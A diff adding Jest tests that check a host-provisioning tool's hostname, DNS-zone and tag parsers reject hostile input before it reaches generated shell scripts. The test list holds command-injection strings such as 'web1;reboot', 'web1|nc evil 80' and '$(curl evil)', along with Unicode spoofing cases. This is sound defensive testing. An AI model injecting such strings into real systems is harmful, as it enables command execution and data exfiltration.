@@ -70,3 +70,79 @@ test('the scripts report boot id and hostname as key=value lines', () => {
   });
   expect(parseReport('')).toEqual({});
 });
+
+/** Strings an attacker, a typo or a copy-paste from a web page could put in the input. */
+const HOSTILE = [
+  'web1;reboot',
+  'web1|nc evil 80',
+  'web1&&id',
+  'web1`id`',
+  '$(curl evil)',
+  'web1>/etc/passwd',
+  "web1'",
+  'web1"',
+  'web1\\',
+  'web1\nreboot',
+  'web1\t',
+  ' web1',
+  'wеb1', // Cyrillic е
+  'web1\u200b', // zero-width space
+  'web1\u202e', // right-to-left override
+  'ｗｅｂ１', // full-width
+  'web🙂',
+  'xn--web-',
+  'a'.repeat(64),
+  'web1.',
+  '..',
+  '*',
+];
+
+describe('hostile input never reaches a command', () => {
+  const safeLabel = /^[a-z0-9]([a-z0-9-]*[a-z0-9])?$/;
+  test.each(HOSTILE.map((h) => [JSON.stringify(h), h]))('hostname %s is refused with InvalidInput', (_label, value) => {
+    expect(() => parseCreateRequest({ hostname: value, dnsZone: 'example.internal' })).toThrow(
+      expect.objectContaining({ name: 'InvalidInput', field: 'hostname' }),
+    );
+    expect(() => parseDestroyRequest({ hostname: value, dnsZone: 'example.internal' })).toThrow(
+      expect.objectContaining({ name: 'InvalidInput' }),
+    );
+  });
+
+  test.each(HOSTILE.filter((h) => h !== 'web1.').map((h) => [JSON.stringify(h), `${h}.internal`]))(
+    'zone %s is refused with InvalidInput',
+    (_label, zone) => {
+      expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: zone })).toThrow(
+        expect.objectContaining({ name: 'InvalidInput', field: 'dnsZone' }),
+      );
+    },
+  );
+
+  test.each(HOSTILE.filter((h) => /[;|&`$<>'"\\\n\t*]/.test(h)).map((h) => [JSON.stringify(h), h]))(
+    'tag value %s is refused with InvalidInput',
+    (_label, value) => {
+      expect(() => parseCreateRequest({ hostname: 'web1', dnsZone: 'a.b', tags: { team: value } })).toThrow(
+        expect.objectContaining({ name: 'InvalidInput', field: 'tags.team' }),
+      );
+    },
+  );
+
+  test('upper case and one trailing dot are normalised, and only the normalised name reaches the script', () => {
+    const request = parseCreateRequest({ hostname: 'WEB1', dnsZone: 'Example.Internal.' });
+    expect(request).toMatchObject({ hostname: 'web1', dnsZone: 'example.internal' });
+    expect(request.hostname).toMatch(safeLabel);
+    const script = setHostnameScript(`${request.hostname}.${request.dnsZone}`, request.hostname, '10.0.1.4').join('\n');
+    expect(script).toContain("hostnamectl set-hostname 'web1.example.internal'");
+    expect(script).not.toMatch(/WEB1|Example/);
+  });
+
+  test('a zone label of 64 characters, or a zone longer than 253, is refused', () => {
+    expect(() => parseZone(`${'a'.repeat(64)}.internal`)).toThrow(/dnsZone/);
+    expect(() => parseZone(`${'a.'.repeat(127)}internal`)).toThrow(/at most 253/);
+    expect(() =>
+      parseCreateRequest({
+        hostname: 'a'.repeat(63),
+        dnsZone: `${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}`,
+      }),
+    ).toThrow(/^hostname: .*longer than 253/);
+  });
+});
